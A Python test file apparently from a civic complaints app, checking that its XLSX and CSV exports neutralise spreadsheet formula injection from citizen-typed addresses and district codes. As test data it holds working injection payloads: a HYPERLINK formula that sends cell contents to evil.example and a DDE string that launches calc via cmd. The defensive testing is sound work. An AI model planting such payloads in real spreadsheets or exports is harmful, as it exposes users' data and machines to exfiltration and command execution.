"""Formula injection in the budget export: what a citizen typed reaches Excel as text.

An address typed as ``=HYPERLINK(...)`` (or a district code that is not in the pack, which the
export shows as it is) must never be written as a formula, in XLSX or in CSV; on SQLite and
PostgreSQL, through the real panel route.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from peygir.ticket_store.models import Ticket
from tests.panel_support import build_app, days_ago, file, signed_in

LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
# A district code is at most 64 characters and shows in both files (the address only in XLSX).
DISTRICTS = ["=1+2", "+SUM(1,2)", "-1+1", "@A1", "\t=9"]


@pytest.fixture
def app(db: str, tmp_path: Path):
    return build_app(db, tmp_path / "media")


async def _hostile_tickets() -> None:
    for n, address in enumerate(HOSTILE):
        ticket = await file("asphalt", chat=f"c{n}", now=days_ago(2))
        district = DISTRICTS[n % len(DISTRICTS)]
        await Ticket.filter(id=ticket.id).update(address=address, district=district)


async def test_xlsx_keeps_every_formula_like_value_as_text(app) -> None:
    await _hostile_tickets()
    async with signed_in(app, "boss", "manager") as c:
        response = await c.get("/panel/export/unresolved.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    # The citizen's words are kept as typed (XML reads a CR back as LF), only as text, and
    # quotePrefix keeps them text when someone edits the cell in Excel.
    typed = {v.replace("\r", "\n") for v in HOSTILE} | set(DISTRICTS)
    assert typed <= {cell.value for cell in cells}
    for cell in cells:
        if cell.value in typed:
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    summary = book.worksheets[0]
    counts = [summary.cell(r, 5).value for r in range(2, summary.max_row + 1)]
    assert all(isinstance(n, int) for n in counts) and sum(counts) == len(HOSTILE)


async def test_csv_puts_a_quote_before_every_formula_like_value(app) -> None:
    await _hostile_tickets()
    async with signed_in(app, "boss", "manager") as c:
        response = await c.get("/panel/export/unresolved.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    districts = sorted(row[3] for row in rows[1:])
    assert districts == sorted("'" + d for d in DISTRICTS)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sum(int(row[4]) for row in rows[1:]) == len(HOSTILE)  # counts stay numbers
